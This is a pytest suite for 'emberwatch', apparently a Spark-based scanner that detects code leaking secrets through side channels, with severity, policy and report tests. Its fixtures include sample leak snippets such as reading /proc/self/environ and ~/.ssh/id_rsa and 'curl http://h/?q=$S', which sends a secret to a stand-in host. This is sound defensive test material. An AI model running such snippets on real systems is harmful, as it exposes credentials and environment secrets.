"""Small snippets with the findings they must (not) have; all run in one Spark job."""

import pytest
from pyspark.sql import functions as F

from emberwatch.operators.policy import Policy, attach_policies, normalise_policy
from emberwatch.operators.scan import scan
from emberwatch.sources.sinks import with_report

ANY = "any"
SRC = 'import os\ns = os.environ["K"]\n'

# name, language, code, findings that must exist (severity, leak type), tainted names that must be there
CASES = [
    ("environ", "python", SRC + "print(s)", [("HIGH", "indirect_output")], {"s"}),
    ("getenv", "python", "import os\nt = os.getenv('A')\nn = len(t)", [("MEDIUM", "property_probe")], {"t", "n"}),
    ("bare_getenv", "python", "g = getenv('A')\nprint(g)", [("HIGH", "indirect_output")], {"g"}),
    ("subprocess", "python", "import subprocess\np = subprocess.run(['env'])\nx = p.stdout[0]", [("CRITICAL", "char_extraction")], {"p"}),
    ("cursor", "python", "r = cur.fetchone()\nprint(r)", [("HIGH", "indirect_output")], {"r"}),
    ("name", "python", "password = ask()\nprint(password)", [("HIGH", "indirect_output")], {"password"}),
    ("attribute", "python", SRC + "x = s.part\nprint(x)", [("HIGH", "indirect_output")], {"x"}),
    ("subscript", "python", SRC + "x = s[1]\ny = x[0]", [("CRITICAL", "char_extraction")], {"x", "y"}),
    ("method", "python", SRC + "x = s.lower()\nn = len(x)", [("MEDIUM", "property_probe")], {"x"}),
    ("chain", "python", "import subprocess\nr = subprocess.run(['env'])\nls = r.stdout.split()\nfor l in ls:\n    ps = l.split('=')\n    u = ps[1]\n    print(u)",
     [("CRITICAL", "iteration_over_secret"), ("HIGH", "indirect_output")], {"r", "ls", "l", "ps", "u"}),
    ("ord", "python", SRC + "ord(s)", [("CRITICAL", "ord_byte_value")], set()),
    ("slice", "python", SRC + "s[:3]", [("CRITICAL", "slice_extraction")], set()),
    ("loop", "python", SRC + "for c in s:\n    pass", [("CRITICAL", "iteration_over_secret")], {"c"}),
    ("repr", "python", SRC + "repr(s)", [("CRITICAL", "property_probe")], set()),
    ("starts", "python", SRC + "s.startswith('a')", [("HIGH", "property_probe")], set()),
    ("ends", "python", SRC + "s.endswith('a')", [("HIGH", "property_probe")], set()),
    ("find", "python", SRC + "s.rfind('a')", [("HIGH", "property_probe")], set()),
    ("count", "python", SRC + "s.count('a')", [("MEDIUM", "property_probe")], set()),
    ("encode", "python", SRC + "s.encode()", [("HIGH", "encoding_transform")], set()),
    ("split", "python", SRC + "s.rpartition(':')", [("MEDIUM", "property_probe")], set()),
    ("equals", "python", SRC + "ok = s == 'x'", [("HIGH", "comparison_leak")], set()),
    ("contains", "python", SRC + "ok = 'x' in s", [("HIGH", "comparison_leak")], set()),
    ("hash", "python", SRC + "hash(s)", [("MEDIUM", "property_probe")], set()),
    ("base64", "python", SRC + "base64.urlsafe_b64encode(s)", [("HIGH", "encoding_transform")], set()),
    ("sha", "python", SRC + "hashlib.sha1(s)", [("HIGH", "encoding_transform")], set()),
    ("print_len", "python", SRC + "print(len(s))", [("HIGH", "indirect_output"), ("MEDIUM", "property_probe")], set()),
    ("fstring", "python", SRC + "m = f'{s}!'", [("HIGH", "format_string_leak")], {"m"}),
    ("type", "python", SRC + "type(s)", [("LOW", "property_probe")], set()),
    ("oct", "python", SRC + "oct(s)", [("HIGH", "encoding_transform")], set()),
    ("keyword", "python", SRC + "print(end=s)", [("HIGH", "indirect_output")], set()),
    ("dotted_sink", "python", SRC + "sock.send(s)", [("HIGH", "indirect_output")], set()),
    ("proc", "python", "d = open('/proc/12/environ')\nlen(d)", [("MEDIUM", "property_probe")], {"d"}),
    ("proc_self", "python", "d = open('/proc/self/environ').read()\nd[0]", [("CRITICAL", "char_extraction")], {"d"}),
    ("ssh", "python", "k = open('/home/u/.ssh/id_rsa')\nprint(k)", [("HIGH", "indirect_output")], {"k"}),
    ("any_read", "python", "d = open('n.txt').read()\nprint(d)", [("HIGH", "indirect_output")], {"d"}),
    ("listcomp", "python", SRC + "a = [c for c in s]", [("CRITICAL", "iteration_over_secret")], {"c"}),
    ("genexp", "python", SRC + "a = sum(f(c) for c in s)", [("CRITICAL", "iteration_over_secret")], {"c"}),
    ("setcomp", "python", SRC + "a = {c for c in s}", [("CRITICAL", "iteration_over_secret")], {"c"}),
    ("tuple", "python", SRC + "a, b = s\nprint(b)", [("HIGH", "indirect_output")], {"a", "b"}),
    ("negative_index", "python", SRC + "s[-1]", [("HIGH", "char_extraction")], set()),
    ("sink_in_assignment", "python", SRC + "x = print(s)", [("HIGH", "indirect_output")], {"x"}),
    ("auto_python", "auto", SRC + "print(s)", [("HIGH", "indirect_output")], {"s"}),
    ("cut", "bash", "echo $S | cut -c1", [("CRITICAL", "char_extraction")], set()),
    ("substring", "bash", "echo ${S:0:1}", [("CRITICAL", "char_extraction")], set()),
    ("length", "bash", "echo ${#S}", [("MEDIUM", "char_extraction")], set()),
    ("curl", "bash", "curl http://h/?q=$S", [("CRITICAL", "char_extraction")], set()),
    ("compare", "bash", "[[ $S == a* ]]", [("HIGH", "char_extraction")], set()),
    ("pipe64", "bash", "echo $S | base64", [("HIGH", "char_extraction")], set()),
    ("dump", "bash", "echo $S | xxd", [("HIGH", "char_extraction")], set()),
    ("unicode_name", "bash", "echo ${#é}", [("MEDIUM", "char_extraction")], set()),
    ("auto_bash", "auto", "export S=1\necho ${S:0:1}", [("CRITICAL", "char_extraction")], set()),
    ("two_bodies", "bash", "python3 -c 'token=1;print(token)'; python -c \"secret=2;len(secret)\"",
     [("HIGH", "indirect_output"), ("MEDIUM", "property_probe")], set()),
    ("js_code", "none", "a.charCodeAt(0)", [("CRITICAL", "char_extraction")], set()),
    ("js_char", "none", "a.charAt(0)", [("HIGH", "char_extraction")], set()),
    ("js_sub", "none", "a.substring(0, 1)", [("HIGH", "char_extraction")], set()),
    ("rb_byte", "none", "a.each_byte", [("CRITICAL", "char_extraction")], set()),
    ("rb_char", "none", "a.each_char", [("CRITICAL", "char_extraction")], set()),
    ("rb_index", "none", "a.bytes[0]", [("CRITICAL", "char_extraction")], set()),
    ("go_rune", "none", "utf8.DecodeRune(b)", [("CRITICAL", "char_extraction")], set()),
    ("go_contains", "none", "strings.Contains(a, b)", [("HIGH", "char_extraction")], set()),
    ("literal", "python", "len('hello')", [], set()),
    ("numbers", "python", "a = 1\nb = a + 2\nprint(b)", [], set()),
    ("dict", "python", "d = {}\nprint(len(d))", [], set()),
    ("clean", "auto", "import os\nprint('hello')", [], set()),
    ("logger_info", "python", SRC + "logger.info(s)", [], {"s"}),
    ("environ_get", "python", "import os\nv = os.environ.get('K')\nprint(v)", [], set()),
    ("augmented", "python", SRC + "x += s\nprint(x)", [], {"s"}),
    ("before", "python", "print(k)\nk = getenv('A')", [], {"k"}),
    ("broken", "python", "def f(:\n  token = 1", [], set()),
    ("comment", "bash", "# curl $S\n\n", [], set()),
    ("truncated_body", "bash", "python3 -c 'print(\"token\")'", [], set()),
    ("print_makes_python", "auto", "echo $S | xxd; python3 -c 'print(1)'", [], set()),
    ("empty", "auto", "", [], set()),
]


@pytest.fixture(scope="module")
def results(spark):
    rows = [(name, code, language) for name, language, code, _, _ in CASES]
    df = spark.createDataFrame(rows, "name string, code string, language string").repartition(8)
    return {r.name: r for r in with_report(scan(df, Policy(min_severity="INFO"))).collect()}


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_case(results, case):
    name, _, _, wanted, tainted = case
    row = results[name]
    got = {(f.severity, f.leak_type) for f in row.findings}
    assert set(wanted) <= got
    assert bool(got) == bool(wanted)
    assert tainted <= set(row.tainted_vars)
    assert row.blocked == any(f.severity in ("CRITICAL", "HIGH") for f in row.findings)
    assert ("No side-channel" in row.report) == (not wanted)


def test_line_numbers_follow_every_line_break(spark):
    code = "a\r\nb\x0cc\u2028d\x85\n\techo ${#X}\x1c \n"
    row = scan(spark.createDataFrame([(code, "bash")], "code string, language string"), Policy(min_severity="INFO")).first()
    assert [(f.line, f.code_snippet) for f in row.findings] == [(6, "echo ${#X}")]


def test_policies_per_row(spark):
    settings = [
        ("off", "no", None, None, None, None), ("high", None, "high", None, None, None), ("warn", None, None, "WARN", None, None),
        ("log", None, None, "log", None, None), ("bash_only", None, None, None, "bash", None),
        ("unknown_only", None, None, None, "cobol", None), ("js_only", None, None, None, " JS ", None),
        ("extra", None, "bad", "bad", "", " MINE ,, OTHER"),
    ]
    raw = spark.createDataFrame(settings, "policy_id string, e string, s string, m string, l string, x string")
    policies = raw.select("policy_id", normalise_policy(F.col("e"), F.col("s"), F.col("m"), F.col("l"), F.col("x")).alias("policy"))
    code = "import os\nn = len(MINE)\npassword = 1\nprint(password)\na.charAt(0)"
    snippets = spark.createDataFrame([(p[0], code, "auto") for p in [*settings, ("none",)]], "policy_id string, code string, language string")
    got = {r.policy_id: r for r in scan(attach_policies(snippets, policies)).collect()}

    def seen(policy):
        return sorted((f.severity, f.leak_type) for f in got[policy].findings)

    assert seen("off") == [] and not got["off"].blocked
    assert seen("high") == [("HIGH", "char_extraction"), ("HIGH", "indirect_output")] and got["high"].blocked
    assert seen("warn") == seen("high") and not got["warn"].blocked and not got["log"].blocked
    assert got["warn"].max_severity == "HIGH"
    assert seen("bash_only") == [] and seen("unknown_only") == []
    assert seen("js_only") == [("HIGH", "char_extraction")]
    assert ("MEDIUM", "property_probe") in seen("extra") and {"MINE", "OTHER"} <= set(got["extra"].tainted_vars)
    assert got["none"].blocked


def test_report_text(spark):
    df = spark.createDataFrame([("password = 1\nprint(password)", "python")], "code string, language string")
    report = with_report(scan(df, Policy())).first().report
    assert report.split("\n") == [
        "=" * 60, "SIDE-CHANNEL EXFILTRATION SCAN REPORT", "=" * 60, "Findings: 1", "Max Severity: HIGH", "Verdict: BLOCK",
        "Tainted Variables: password", "-" * 60, "",
        "[1] [HIGH] L2:0 (indirect_output) Outputting derived data from tainted 'password' via print()",
        "    Code: print(password)", "", "=" * 60,
    ]
